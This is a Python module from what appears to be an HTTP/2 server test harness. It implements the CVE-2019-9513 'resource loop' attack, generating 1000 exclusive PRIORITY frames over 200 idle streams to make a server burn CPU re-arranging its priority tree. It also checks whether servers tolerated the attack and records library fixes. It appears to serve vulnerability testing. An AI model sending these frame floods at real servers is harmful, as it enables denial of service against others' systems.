"""Resource loop (CVE-2019-9513): PRIORITY frames that keep moving streams around the priority tree
(exclusive dependencies, on idle streams, which RFC 7540 let a client prioritize), so a server that keeps
the tree spends CPU re-arranging it. RFC 9113 section 5.3.2 deprecates the scheme; a server may ignore it."""
import random

from hyperframe.frame import PriorityFrame

from h2grid.attacks.base import Attack, Fix

NODES = 200  # idle streams 1, 3, ... placed in the tree
FRAMES = 1000


def _frames() -> bytes:
    rng = random.Random(9513)
    ids = [2 * i + 1 for i in range(NODES)]
    frames = bytearray()
    for _ in range(FRAMES):
        sid, parent = rng.sample(ids, 2)
        frames += PriorityFrame(sid, depends_on=parent, stream_weight=rng.randrange(256), exclusive=True).serialize()
    return bytes(frames)


BATCH = _frames()


KEPT = 10 * FRAMES * 14  # bytes of PRIORITY frames (14 each) one connection must carry with the server keeping it


def exercised(sent: dict) -> str:
    """The tree kept and re-arranged for a while: one connection took 10,000 moves without the server ending it. A
    server that ended it sooner (Hypercorn and twisted raise priority's PriorityLoop after some 738 frames) was
    never made to keep re-arranging it. (From outside, a server that ignores PRIORITY looks the same as one that
    keeps the tree: Go's round-robin writer does.)"""
    return "" if sent["most_on_one"] >= KEPT else (
        f"no connection took {KEPT // 14:,} PRIORITY frames before the server ended it (at most {sent['most_on_one'] // 14:,})")


def opening(conn) -> bytes:
    return b"".join(PriorityFrame(2 * i + 1, depends_on=0, stream_weight=15).serialize() for i in range(NODES))


ATTACK = Attack(
    key="resource-loop", title="Resource loop (priority shuffling)", cve="CVE-2019-9513",
    rfc="RFC 9113 section 5.3.2 (priority signals deprecated), RFC 7540 section 5.3",
    sends=f"{NODES} idle streams put in the priority tree, then PRIORITY frames making random ones exclusive "
          f"dependents of others, {FRAMES} per write",
    opening=opening, batch=lambda conn: BATCH, reads=False, exercised=exercised,
    fixes=(Fix("priority", "1.2.0", "at most 1000 streams in the tree (CVE-2016-6580): the tree size, not the "
                                    "re-arranging, is bounded"),
           Fix("go", "", "the installed go1.26's net/http HTTP/2 server writes round-robin by default "
                         "(net/http/h2_bundle.go): PRIORITY frames move nothing"),),
)
